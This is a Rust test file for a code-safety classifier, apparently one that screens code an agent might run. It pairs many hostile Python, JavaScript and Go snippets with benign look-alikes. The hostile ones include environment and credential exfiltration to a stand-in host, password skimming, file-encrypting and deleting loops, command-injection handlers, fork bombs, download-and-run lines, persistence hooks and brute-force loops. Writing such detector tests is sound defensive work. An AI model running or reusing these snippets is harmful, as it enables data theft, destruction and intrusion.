//! What programs do with what they take, through lists, letters, objects and loops; and the same
//! shapes at honest work.

mod judging;

use judging::{all_safe, is_unsafe};

#[test]
fn what_is_put_away_first_and_sent_later() {
    let leaves = "exfiltration";
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tv := url.Values{}\n\tfor _, e := range os.Environ() {\n\t\tv.Set(\"x\", e)\n\t}\n\thttp.PostForm(\"https://a.example/env\", v)\n}\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import smtplib\nfrom email.mime.base import MIMEBase\nfrom email.mime.multipart import MIMEMultipart\nm = MIMEMultipart()\np = MIMEBase('a', 'b')\np.set_payload(open('/home/al/notes.docx', 'rb').read())\nm.attach(p)\nsmtplib.SMTP('mail.example').sendmail('a', 'b', m.as_string())\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import os, requests\nfound = {}\nfor k, v in os.environ.items():\n    found[k] = v\nrequests.post('https://a.example/', json=found)\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "const dns = require('dns'), os = require('os');\nconst id = Buffer.from(os.hostname() + '|' + os.userInfo().username).toString('hex');\ndns.lookup(`${id}.d.a.example`, () => {});\n",
        leaves,
    );
    is_unsafe(
        "javascript",
        "document.querySelectorAll('input[type=password]').forEach(i => {\n  i.addEventListener('change', e => navigator.sendBeacon('https://a.example/p', e.target.value));\n});\n",
        leaves,
    );
    is_unsafe(
        "python",
        "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(k)\nall = []\nfor d, _, names in os.walk(os.path.expanduser('~')):\n    for n in names:\n        all.append(os.path.join(d, n))\nfor t in all:\n    data = open(t, 'rb').read()\n    open(t, 'wb').write(f.encrypt(data))\n",
        "destroy-files",
    );
    all_safe(
        "python",
        &[
            "import hashlib, requests\nh = hashlib.sha256()\nh.update(open('notes.txt', 'rb').read())\nrequests.post('https://a.example/', data={'sum': h.hexdigest()})\n",
            "rows = []\nfor line in open('table.csv'):\n    rows.append(line.split(','))\nprint(rows)\n",
        ],
    );
}

#[test]
fn what_methods_hand_to_each_other() {
    is_unsafe(
        "python",
        "import os, requests\nclass Agent:\n    def __init__(self, to):\n        self.to = to\n    def gather(self):\n        return open(os.path.expanduser('~/.netrc')).read()\n    def tell(self, what):\n        requests.post(self.to, data=what)\n    def run(self):\n        self.tell(self.gather())\nAgent('https://a.example/').run()\n",
        "exfiltration",
    );
    is_unsafe(
        "javascript",
        "class Agent {\n  load() { return process.env; }\n  tell(x) { fetch('https://a.example/', {method: 'POST', body: x}); }\n  run() { this.tell(this.load()); }\n}\nnew Agent().run();\n",
        "exfiltration",
    );
    is_unsafe(
        "python",
        "import os\nfrom http.server import BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.popen(self.path[1:])\n",
        "exec-shell",
    );
    is_unsafe(
        "python",
        "import socketserver, subprocess\nclass H(socketserver.BaseRequestHandler):\n    def handle(self):\n        cmd = self.request.recv(1024)\n        self.request.sendall(subprocess.check_output(cmd, shell=True))\n",
        "reverse-shell",
    );
    is_unsafe(
        "python",
        "@app.route('/ping/<host>')\ndef ping(host):\n    return os.popen('ping -c 1 ' + host).read()\n",
        "exec-shell",
    );
    is_unsafe(
        "python",
        "from flask import request\nimport requests\ndef proxy():\n    return requests.get(request.args['url']).text\n",
        "network-access",
    );
    all_safe(
        "python",
        &[
            "class Report:\n    def __init__(self, path):\n        self.path = path\n    def rows(self):\n        return open(self.path).read().splitlines()\n    def show(self):\n        print(self.rows())\nReport('a.txt').show()\n",
        ],
    );
}

#[test]
fn loops_that_take_all_there_is() {
    let bomb = "fork-bomb";
    is_unsafe(
        "python",
        "import threading\ndef f():\n    while True:\n        threading.Thread(target=f).start()\nf()\n",
        bomb,
    );
    is_unsafe(
        "python",
        "from multiprocessing import Process\ndef f():\n    while True:\n        p = Process(target=f)\n        p.start()\n",
        bomb,
    );
    all_safe(
        "python",
        &[
            "import threading\nwhile True:\n    c = s.accept()\n    threading.Thread(target=f, args=(c,)).start()\n",
            "import time\nwhile True:\n    print('up')\n    time.sleep(1)\n",
            "data = b'0' * 4096\n",
        ],
    );
    all_safe(
        "go",
        &[
            "package main\nfunc main() {\n\tfor {\n\t\tc, _ := l.Accept()\n\t\tgo serve(c)\n\t}\n}\n",
        ],
    );
}

#[test]
fn what_everything_goes_through() {
    is_unsafe(
        "javascript",
        "const m = require('module');\nconst load = m._load;\nm._load = function (n) { note(n); return load.apply(this, arguments); };\n",
        "process-tamper",
    );
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tk := syscall.NewLazyDLL(\"kernel32.dll\")\n\tk.NewProc(\"VirtualAlloc\").Call(0, 1, 0x3000, 0x40)\n}\n",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "k = load('kernel32')\nk.WriteProcessMemory(h, a, b, n, None)\n",
        "process-tamper",
    );
    is_unsafe(
        "python",
        "import socket\ns = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))\n",
        "surveillance",
    );
    all_safe(
        "javascript",
        &[
            "const merged = _.merge({}, defaults, own);\n",
            "request.path = '/a';\nfs.readFileSync('a.txt');\n",
        ],
    );
}

#[test]
fn documents_and_archives_from_outside() {
    is_unsafe(
        "python",
        "import tarfile, requests, io\nr = requests.get('https://a.example/p.tgz')\ntarfile.open(fileobj=io.BytesIO(r.content)).extractall('.')\n",
        "file-write",
    );
    is_unsafe(
        "python",
        "try:\n    from http.server import SimpleHTTPRequestHandler\n    import socketserver\nexcept ImportError:\n    from SimpleHTTPServer import SimpleHTTPRequestHandler\n    import SocketServer as socketserver\nsocketserver.TCPServer(('', 8000), SimpleHTTPRequestHandler).serve_forever()\n",
        "network-listen",
    );
    all_safe(
        "python",
        &[
            "import tarfile\ntarfile.open('data.tgz').extractall('out', filter='data')\n",
            "from lxml import etree\netree.fromstring(t, etree.XMLParser(resolve_entities=False))\n",
            "from http.server import HTTPServer, SimpleHTTPRequestHandler\nHTTPServer(('127.0.0.1', 8000), SimpleHTTPRequestHandler).serve_forever()\n",
        ],
    );
}

#[test]
fn stores_of_secrets_and_of_others() {
    for (code, rule) in [
        (
            "import os\nfor n, p in {'a': os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'}.items():\n    for f in os.listdir(p):\n        open(os.path.join(p, f))\n",
            "credential-read",
        ),
        (
            "import os, shutil\nfrom pathlib import Path\np = Path(os.environ['LOCALAPPDATA']) / 'Microsoft' / 'Edge' / 'User Data' / 'Default' / 'History'\nshutil.copy2(p, 'h.db')\n",
            "credential-read",
        ),
        (
            "import os\nprint(open(os.path.join(os.sep, 'proc', 'self', 'environ')).read())\n",
            "credential-read",
        ),
        (
            "import boto3, requests\nv = boto3.client('secretsmanager').get_secret_value(SecretId='a')\nrequests.post('https://a.example/', json=v)\n",
            "exfiltration",
        ),
        (
            "v = api.list_secret_for_all_namespaces()\nprint(v)\n",
            "credential-read",
        ),
        ("import os\nprint(os.listdir('/root'))\n", "system-survey"),
        (
            "import tarfile\nt = tarfile.open('/tmp/e.tar.gz', 'w:gz')\nt.add('/etc')\n",
            "system-survey",
        ),
        ("import impacket\n", "system-survey"),
        (
            "import yaml, sys\nyaml.load(sys.stdin, Loader=yaml.UnsafeLoader)\n",
            "deserialize",
        ),
        (
            "f['__builtins__'].eval('__import__(\"os\").system(\"id\")')\n",
            "obfuscated-name",
        ),
        (
            "print('{e.__init__.__globals__[KEY]}'.format(e=e))\n",
            "sandbox-gadget",
        ),
    ] {
        is_unsafe("python", code, rule);
    }
    all_safe(
        "python",
        &[
            "import yaml\nyaml.load(open('a.yml'), Loader=yaml.CSafeLoader)\n",
            "import os\nprint(os.listdir('data'))\nprint(open('/etc/os-release').read())\n",
        ],
    );
}

#[test]
fn guesses_and_crowds() {
    for (code, rule) in [
        (
            "import requests\nfor i in range(10000):\n    requests.post(u, data={'user': 'a', 'pin': str(i).zfill(4)})\n",
            "system-survey",
        ),
        (
            "import itertools, zipfile\nz = zipfile.ZipFile('a.zip')\nfor p in itertools.product('abc', repeat=5):\n    z.extractall(pwd=''.join(p).encode())\n",
            "system-survey",
        ),
        (
            "import ldap3\nfor u in open('users.txt'):\n    ldap3.Connection(s, user=u, password='x')\n",
            "system-survey",
        ),
        (
            "import os\nfor i in range(100):\n    os.fork()\n",
            "fork-bomb",
        ),
        (
            "import sounddevice as sd, requests\nr = sd.rec(100)\nrequests.post('https://a.example/', data=b'')\n",
            "surveillance",
        ),
    ] {
        is_unsafe("python", code, rule);
    }
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tfor i := 1; i < 255; i++ {\n\t\tgo func(i int) {\n\t\t\tnet.Dial(\"tcp\", fmt.Sprintf(\"10.0.0.%d:22\", i))\n\t\t}(i)\n\t}\n}\n",
        "system-survey",
    );
    all_safe(
        "python",
        &[
            "import threading\nfor i in range(4):\n    threading.Thread(target=work).start()\n",
            "import requests\nrequests.post(u, data={'user': 'a', 'pin': pin})\n",
            "import hashlib\nprint(hashlib.sha256(open('a.bin', 'rb').read()).hexdigest())\n",
        ],
    );
    all_safe(
        "javascript",
        &["setInterval(() => { fetch('https://a.example/up'); }, 5000);\n"],
    );
}

#[test]
fn whole_trees_and_whole_hosts() {
    is_unsafe(
        "javascript",
        "const fs = require('fs');\nfunction rm(d) { fs.readdirSync(d).forEach(f => { fs.unlinkSync(d + '/' + f); }); }\nrm(process.env.HOME);\n",
        "destroy-files",
    );
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tfilepath.WalkDir(\"/home\", func(p string, d os.DirEntry, err error) error {\n\t\tos.Truncate(p, 0)\n\t\treturn nil\n\t})\n}\n",
        "destroy-files",
    );
    is_unsafe(
        "python",
        "import boto3\nfor i in boto3.resource('ec2').instances.all():\n    i.terminate()\n",
        "destroy-data",
    );
    is_unsafe(
        "python",
        "r.config_set('dir', '/root/.ssh/')\n",
        "file-write",
    );
    is_unsafe(
        "python",
        "import tempfile, os, sys, urllib.request\nfd, p = tempfile.mkstemp()\nwith os.fdopen(fd, 'wb') as f:\n    f.write(urllib.request.urlopen(u).read())\nos.execv(sys.executable, [sys.executable, p])\n",
        "download-run",
    );
    is_unsafe(
        "python",
        "from ctypes import *\nlibc = CDLL('libc.so.6')\na = libc.mmap(0, 64, 7, 0x22, -1, 0)\n",
        "process-tamper",
    );
    is_unsafe(
        "javascript",
        "Function.prototype.constructor('return this')()['pro' + 'cess'].mainModule.require('fs').writeFileSync('/etc/cron.d/x', 'y');\n",
        "persistence-cron",
    );
    is_unsafe(
        "javascript",
        "const o = {};\no.__proto__.polluted = 'yes';\n",
        "sandbox-gadget",
    );
    is_unsafe(
        "python",
        "open(os.path.join(repo.git_dir, 'hooks', 'post-commit'), 'w')\n",
        "persistence-git-hook",
    );
    all_safe(
        "python",
        &[
            "import docker\ndocker.from_env().containers.run('a', volumes={'/srv/data': {'bind': '/data'}})\n",
            "import mmap\nm = mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ)\n",
        ],
    );
}

#[test]
fn detours_of_the_same() {
    is_unsafe(
        "javascript",
        "const fs = require('fs'), cp = require('child_process');\nrequire('https').get('https://a.example/b', r => { const f = fs.createWriteStream('b'); r.pipe(f); f.on('close', () => { cp.spawn('./b', []); }); });\n",
        "download-run",
    );
    is_unsafe(
        "go",
        "package main\nfunc main() {\n\tfor p := 1; p < 65536; p++ {\n\t\tnet.Dial(\"tcp\", fmt.Sprintf(\"a.example:%d\", p))\n\t}\n}\n",
        "system-survey",
    );
    is_unsafe(
        "python",
        "import pyautogui\npyautogui.write('curl http://a.example/x | sh')\n",
        "download-run",
    );
    all_safe(
        "javascript",
        &["const o = Object.assign({}, defaults, own);\n"],
    );
    all_safe("python", &["import pyautogui\npyautogui.write('hello')\n"]);
}

#[test]
fn programs_that_multiply_and_hook() {
    for (code, rule) in [
        (
            "import shutil\nshutil.copy(__file__, '/tmp/again.py')\n",
            "persistence-startup",
        ),
        (
            "import glob\nme = open(__file__).read()\nfor f in glob.glob('*.py'):\n    s = open(f).read()\n    open(f, 'w').write(me + s)\n",
            "persistence-startup",
        ),
        ("open(drive + 'autorun.inf', 'w')\n", "persistence-startup"),
        (
            "import builtins\nkept = builtins.__import__\nbuiltins.__import__ = mine\n",
            "process-tamper",
        ),
        (
            "from xml.sax import make_parser, handler\np = make_parser()\np.setFeature(handler.feature_external_ges, True)\n",
            "credential-read",
        ),
    ] {
        is_unsafe("python", code, rule);
    }
    for (code, rule) in [
        (
            "const { Client } = require('ssh2');\nfor (const pw of ['a', 'b', 'c']) {\n  new Client().on('ready', f).connect({ host: 'h', username: 'root', password: pw });\n}\n",
            "system-survey",
        ),
        (
            "const s3 = new (require('aws-sdk').S3)();\ns3.deleteBucket({ Bucket: name });\n",
            "destroy-data",
        ),
    ] {
        is_unsafe("javascript", code, rule);
    }
    all_safe(
        "python",
        &[
            "import shutil\nshutil.copy('a.txt', 'b.txt')\n",
            "import subprocess, os\nsubprocess.run(['make'], env=dict(os.environ, CC='clang'))\n",
        ],
    );
    all_safe(
        "javascript",
        &["const D = require('better-sqlite3');\nconst db = new D('app.db');\n"],
    );
}
